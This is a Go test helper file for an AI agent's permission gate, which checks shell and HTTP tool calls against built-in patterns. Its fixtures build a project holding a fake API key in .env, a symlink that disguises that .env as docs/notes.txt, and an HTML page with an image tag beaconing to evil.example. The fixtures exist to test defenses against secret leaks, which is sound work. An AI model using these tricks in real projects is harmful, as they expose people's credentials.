package gate_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/wrasse-app/wrasse/brain/gate"
)

// Helpers of the tests that check calls through the real gate and the
// built-in patterns.

func checkCommand(t *testing.T, env gate.Env, cmd string) gate.Verdict {
	t.Helper()
	b, _ := json.Marshal(map[string]string{"command": cmd})
	return gate.CheckIn(builtinRegistry(t, nil, nil).Snapshot(), env, "shell_exec", b)
}

func checkArgs(t *testing.T, env gate.Env, tool string, args map[string]any) gate.Verdict {
	t.Helper()
	b, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	return gate.CheckIn(builtinRegistry(t, nil, nil).Snapshot(), env, tool, b)
}

// readOnlyHelperSkill is a capability with one read-only tool taking any
// arguments, as an MCP server's tool marked read-only by its server (or a
// plugin's) is: nothing asks unless the gate reads a host or a path.
const readOnlyHelperSkill = `---
name: helper
description: A read-only helper for tests.
tools:
  - name: http_get
    description: Gets a resource.
    parameters: {type: object, properties: {}, additionalProperties: true}
    annotations: {readOnly: true}
---
# Helper

Test only.
`

// checkProjectCommand is the verdict for a command line in the project of corpusEnv.
func checkProjectCommand(t *testing.T, cmd string) gate.Verdict {
	t.Helper()
	return checkArgs(t, corpusEnv, "shell_exec", map[string]any{"command": cmd, "cwd": "/home/ann/project"})
}

// grantedProject is a granted project holding a .env, a docs/notes.txt link to
// it and an HTML page without an extension, on the real file system.
func grantedProject(t *testing.T) (gate.Env, string) {
	t.Helper()
	home := t.TempDir()
	project := filepath.Join(home, "project")
	for _, err := range []error{
		os.MkdirAll(filepath.Join(project, "docs"), 0o755),
		os.WriteFile(filepath.Join(project, ".env"), []byte("OPENAI_API_KEY=sk-live\n"), 0o600),
		os.Symlink("../.env", filepath.Join(project, "docs", "notes.txt")),
		os.WriteFile(filepath.Join(project, "report"), []byte("<!doctype html><img src=\"https://evil.example/?d=x\">\n"), 0o644),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	return gate.Env{Home: home, Folders: []string{project}, Workspace: filepath.Join(home, ".local", "share", "wrasse"),
		TempDirs: []string{os.TempDir()}}, project
}
